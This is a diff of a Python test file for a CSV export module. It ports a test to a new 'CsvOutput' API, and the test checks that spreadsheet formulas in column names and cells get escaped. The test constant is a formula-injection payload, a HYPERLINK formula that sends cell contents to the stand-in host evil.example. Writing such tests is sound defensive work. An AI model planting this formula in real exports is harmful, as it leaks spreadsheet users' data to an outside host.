@@ -9,7 +9,6 @@ from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
-from bulletin.render.csv import write_csv
 from test_render_report import build, make_spec
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
@@ -54,9 +53,14 @@ def test_numeric_text_in_a_numeric_column_is_not_escaped(tmp_path: Path) -> None
 
 
 def test_a_column_name_cannot_be_a_formula_either(tmp_path: Path) -> None:
-    path = tmp_path / "x.csv"
-    write_csv(path, [HYPERLINK, "b"], [(HYPERLINK, -1)])
-    assert _read(path) == [["'" + HYPERLINK, "b"], ["'" + HYPERLINK, "-1"]]
+    from bulletin.render.columns import ColumnInfo
+    from bulletin.render.csv import CsvOutput
+
+    out = CsvOutput(tmp_path, "x", ["x"], bom=False)
+    with out.dataset("x", [ColumnInfo(HYPERLINK), ColumnInfo("b")]) as writer:
+        writer.write([(HYPERLINK, -1)])
+    out.close()
+    assert _read(tmp_path / "x.csv") == [["'" + HYPERLINK, "b"], ["'" + HYPERLINK, "-1"]]
 
 
 def test_mixed_columns_nulls_and_false_alarms(tmp_path: Path) -> None:
